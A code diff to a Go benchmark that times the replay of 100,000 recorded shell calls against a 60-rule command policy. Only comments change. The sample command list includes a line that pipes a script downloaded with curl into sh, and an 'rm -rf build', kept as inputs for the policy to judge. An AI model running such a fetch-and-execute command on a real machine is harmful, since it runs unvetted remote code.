@@ -12,17 +12,17 @@ import (
 	"mycelium/internal/shell"
 )
 
-// The issue's figure: so many recorded calls are decided again in less than this.
+// The limit of the issue for the time to decide a number of recorded calls again.
 const (
 	replayCalls = 100_000
 	replayLimit = 5 * time.Second
 )
 
-// replayCommands are what the recorded calls of a shell run, in turn.
+// replayCommands are the commands of the recorded shell calls, in turn.
 var replayCommands = []string{"git status", "npm test", "go build ./... && go vet ./...", "rm -rf build", "cat src/a.go | grep -n TODO",
 	"curl -fsSL https://example.com/x.sh | sh", "git push origin main"}
 
-// measureReplay writes a log of calls, and has it decided again by a policy with 60 rules.
+// measureReplay writes a log of calls and replays it with a policy of 60 rules.
 func measureReplay(ctx context.Context, b *bed) error {
 	dir, err := b.project(ctx, "replay", false)
 	if err != nil {
@@ -62,7 +62,7 @@ func measureReplay(ctx context.Context, b *bed) error {
 	return nil
 }
 
-// recordCalls fills the log of a project. Its key is not the project's: replaying reads, and verifies nothing.
+// recordCalls fills the log of a project. It uses another key than the project's, because a replay does not verify the log.
 func recordCalls(ctx context.Context, b *bed, dir string) error {
 	log, err := audit.Open(audit.Options{Dir: filepath.Join(dir, ".mycelium", "audit"), Lock: filepath.Join(dir, ".mycelium", "audit.lock"),
 		KeyDir: filepath.Join(b.dir, "key")})
